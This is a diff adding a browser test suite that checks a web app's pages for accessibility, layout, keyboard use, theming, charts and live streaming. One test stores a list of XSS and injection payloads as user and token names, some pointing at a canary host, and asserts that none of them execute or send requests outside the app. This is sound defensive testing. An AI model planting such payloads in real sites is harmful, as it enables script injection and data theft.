@@ -1,0 +1,265 @@
+"""The frame in real Chromium: nothing in the console, nothing for axe, nothing pushed off a small screen."""
+
+from collections.abc import AsyncIterable, Iterator
+from typing import Annotated
+
+import pytest
+from fastapi import Header, Request, Response
+from fastapi.sse import EventSourceResponse, ServerSentEvent
+from playwright.sync_api import Browser, Page, Route, expect
+
+from app.db import reading, utcnow, writing
+from app.jobs import store as jobs
+from app.jobs.tables import JobEventRow
+from app.users import service
+from app.users.deps import Listening, Me
+from app.web import charts, events
+from app.web.charts import Arm, Part, Series
+from app.web.context import AppContext
+from app.web.deps import App
+from app.web.events import Sent
+from app.web.pages import page as answer
+from app.web.security import Web
+from tests.browser_support import axe, fits, quiet_page, serving
+from tests.small_app import PASSWORD, People, running
+
+pytestmark = pytest.mark.browser
+
+VIEWS = [
+    pytest.param({"color_scheme": "light"}, id="light"),
+    pytest.param({"color_scheme": "dark"}, id="dark"),
+    pytest.param({"viewport": {"width": 390, "height": 800}}, id="narrow"),
+    pytest.param({"java_script_enabled": False}, id="no-script"),
+]
+
+
+@pytest.fixture
+def address(app: Web) -> Iterator[str]:
+    with serving(app) as started:
+        yield started
+
+
+def sign_in(page: Page, email: str, password: str = PASSWORD) -> None:
+    page.goto("/sign-in")
+    page.get_by_label("E-mail address").fill(email)
+    page.get_by_label("Password").fill(password)
+    page.get_by_role("button", name="Sign in").click()
+
+
+def judged(page: Page, *, script: bool = True) -> None:
+    fits(page)
+    if script:
+        axe(page)
+
+
+def test_from_the_code_to_a_second_person(app: Web, chromium: Browser, address: str) -> None:
+    with writing(app.state.context.engine) as session:
+        code = service.new_setup_code(session, utcnow())
+
+    with quiet_page(chromium, address) as page:
+        page.goto("/account")
+        expect(page).to_have_url(f"{address}/setup")
+        page.get_by_role("button", name="Make the account").click()
+        expect(page.get_by_role("alert")).to_be_focused()
+        judged(page)
+        page.get_by_label("Set-up code").fill(code or "")
+        page.get_by_label("Your name").fill("Dana")
+        page.get_by_label("E-mail address").fill("dana@example.org")
+        page.get_by_label("Password").fill(PASSWORD)
+        page.get_by_role("button", name="Make the account").click()
+
+        page.goto("/users")
+        page.get_by_label("Name", exact=True).fill("Rob")
+        page.get_by_label("E-mail address").fill("rob@example.org")
+        page.get_by_role("button", name="Add", exact=True).click()
+        given = page.locator(".secret").inner_text()
+        judged(page)
+
+        page.get_by_text("Dana admin").click()
+        page.get_by_role("button", name="Sign out").click()
+        expect(page.get_by_role("status")).to_have_text("You are signed out.")
+        sign_in(page, "rob@example.org", given)
+        page.goto("/account")
+        expect(page.get_by_role("heading", level=1)).to_have_text("Change password")
+
+
+@pytest.mark.parametrize("view", VIEWS)
+def test_every_page_reads_well(chromium: Browser, people: People, address: str, view: dict[str, object]) -> None:
+    admin = people.add("admin")
+    people.add("author", active=False)
+    people.add("reviewer", must_change_password=True, name="A rather long name that goes on " * 3)
+    people.program(admin)
+
+    with quiet_page(chromium, address, **view) as page:
+        page.goto("/sign-in")
+        judged(page, script="java_script_enabled" not in view)
+        sign_in(page, admin.email)
+        for path in ("/account", "/account/password", "/users", "/audit", "/nowhere", "/problems/conflict"):
+            page.goto(path)
+            judged(page, script="java_script_enabled" not in view)
+
+
+def test_the_keyboard_reaches_everything(chromium: Browser, people: People, address: str) -> None:
+    with quiet_page(chromium, address) as page:
+        sign_in(page, people.add("admin").email)
+        page.goto("/account")
+        page.keyboard.press("Tab")
+        expect(page.get_by_role("link", name="Skip to the content")).to_be_focused()
+        page.get_by_text("Admin 1 admin").press("Enter")
+        expect(page.get_by_role("button", name="Sign out")).to_be_visible()
+        page.keyboard.press("Escape")
+        expect(page.get_by_role("button", name="Sign out")).to_be_hidden()
+
+
+def test_a_theme_is_chosen_and_kept(chromium: Browser, people: People, address: str) -> None:
+    with quiet_page(chromium, address, color_scheme="light") as page:
+        sign_in(page, people.add().email)
+        page.goto("/account")
+        before = page.locator("body").evaluate("node => getComputedStyle(node).backgroundColor")
+        page.locator(".menu summary").click()
+        page.get_by_role("button", name="Dark").click()
+
+        expect(page).to_have_url(f"{address}/account")
+        assert page.locator("body").evaluate("node => getComputedStyle(node).backgroundColor") != before
+        judged(page)
+
+
+HOSTILE = [
+    "<script>document.title='owned'</script>",
+    "<img src=x onerror=document.title='owned'>",
+    "\"><svg onload=document.title='owned'>",
+    "'-alert(1)-'",
+    "javascript:alert(1)",
+    "{{7*7}}",
+    "{% raw %}",
+    "</title><script>document.title='owned'</script>",
+    "</textarea><img src=//canary.example/x>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<style>body{display:none}</style>",
+    "<base href=//canary.example/>",
+    "<meta http-equiv=refresh content=0;//canary.example>",
+    "<iframe srcdoc='<script>parent.document.title=1</script>'>",
+    "![x](https://canary.example/?q=data)",
+    "--><script>1</script>",
+    "<form action=//canary.example><button>Sign out",
+    "&lt;b&gt;",
+    "\\u003cscript\\u003e",
+    "<details open ontoggle=alert(1)>",
+]
+
+
+def test_nothing_that_people_call_themselves_is_run(chromium: Browser, people: People, address: str) -> None:
+    admin = people.add("admin", name=HOSTILE[0])
+    for name in HOSTILE:
+        people.add("author", name=name[:100])
+    client = people.browser(admin)
+    for name in HOSTILE:
+        assert client.post("/account/tokens", data={"name": name, "scope": "read", "days": "7"}).status_code == 201
+    asked: list[str] = []
+    dialogs: list[str] = []
+
+    with quiet_page(chromium, address) as page:
+
+        def watch(route: Route) -> None:
+            asked.append(route.request.url)
+            route.continue_()
+
+        page.route("**/*", watch)
+        page.on("dialog", lambda dialog: dialogs.append(dialog.message))
+        sign_in(page, admin.email)
+        for path in ("/users", "/account", "/audit"):
+            page.goto(path)
+            assert "owned" not in page.title()
+            for name in HOSTILE[1:]:
+                if path == "/users":
+                    expect(page.locator("main").get_by_role("rowheader", name=name, exact=True)).to_be_visible()
+
+    assert dialogs == []
+    assert [url for url in asked if not url.startswith(address)] == []
+
+
+@pytest.mark.parametrize("view", VIEWS)
+def test_charts_read_well(app: Web, chromium: Browser, people: People, address: str, view: dict[str, object]) -> None:
+    template = app.state.context.templates.from_string(
+        '{% extends "base.html" %}{% block title %}Charts{% endblock %}{% block content %}<h1>Charts</h1>'
+        '{% for kind, chart in shown %}{% include "_charts/" ~ kind ~ ".html" %}{% endfor %}{% endblock %}'
+    )
+    arms = [
+        Arm("Adapter", None, note="later"),
+        Arm("Few-shot, the nearest five", 0.74, 0.69, 0.78),
+        Arm("RAG", 1.0, 0.9, 1.0),
+    ]
+    shown = [
+        ("lines", charts.lines("Loss", [Series("train", [(n, 3 / (n + 1)) for n in range(50)])], log=True)),
+        ("lines", charts.lines("Loss", [Series("train", [])])),
+        ("intervals", charts.intervals("Arms", arms, target=0.9)),
+        ("intervals", charts.intervals("Difference", [Arm("Adapter", 0.05, -0.01, 0.11)], difference=True)),
+        (
+            "bars",
+            charts.waterfall("Rows", [Part("Read", 1500), Part("Twins", 500, removed=True), Part("Usable", 1000)]),
+        ),
+        ("bars", charts.bars("Scores", [Part("Tune", 17), Part("RAG", -6)])),
+    ]
+
+    @app.get("/charts")
+    def draw(request: Request, me: Me) -> Response:
+        return answer(request, template, shown=shown)
+
+    with quiet_page(chromium, address, **view) as page:
+        sign_in(page, people.add().email)
+        page.goto("/charts")
+        judged(page, script="java_script_enabled" not in view)
+        assert page.locator("[role=img]").count() == 3
+        page.get_by_text("The numbers").first.click()
+        expect(page.get_by_role("table").first).to_be_visible()
+        judged(page, script="java_script_enabled" not in view)
+
+
+def test_a_live_part_follows_and_ends(app: Web, chromium: Browser, people: People, address: str) -> None:
+    """With htmx and its extension for streams as they are installed: three messages, then the connection closes."""
+    context: AppContext = app.state.context
+    if not context.files.has("htmx-sse.js"):
+        pytest.skip("htmx is not installed: make assets")
+    opened: list[int] = []
+    template = context.templates.from_string(
+        '{% extends "base.html" %}{% block title %}Live{% endblock %}{% block content %}<h1>Live</h1>'
+        '<p id="live" hx-sse:connect="/stream" hx-sse:close="done" hx-swap="innerHTML" hx-target="this">waiting</p>'
+        "{% endblock %}"
+    )
+
+    @app.get("/live")
+    def live(request: Request, me: Me) -> Response:
+        return answer(request, template)
+
+    @app.get("/stream", response_class=EventSourceResponse)
+    async def stream(
+        context: App, listener: Listening, last_event_id: Annotated[int, Header(ge=0)] = 0
+    ) -> AsyncIterable[ServerSentEvent]:
+        opened.append(last_event_id)
+
+        def read(after: int) -> list[Sent]:
+            with reading(context.engine) as session:
+                rows = jobs.events_after(session, 1, after)
+                return [Sent(row.id, f"<b>{row.body['n']}</b>", last=row.kind == "done") for row in rows]
+
+        async for event in events.stream(context.hub, listener, after=last_event_id, read=read):
+            yield event
+
+    def say(number: int, kind: str = "progress") -> None:
+        with writing(context.engine) as session:
+            session.add(JobEventRow(job_id=1, attempt=1, at=utcnow(), kind=kind, body={"n": number}))
+
+    with writing(context.engine) as session:
+        session.add(running())
+
+    with quiet_page(chromium, address) as page:
+        sign_in(page, people.add().email)
+        page.goto("/live")
+        for number in (1, 2):
+            say(number)
+            expect(page.locator("#live")).to_have_text(str(number))
+        say(3, "done")
+        expect(page.locator("#live")).to_have_text("3")
+        page.wait_for_timeout(1500)
+
+    assert opened == [0]
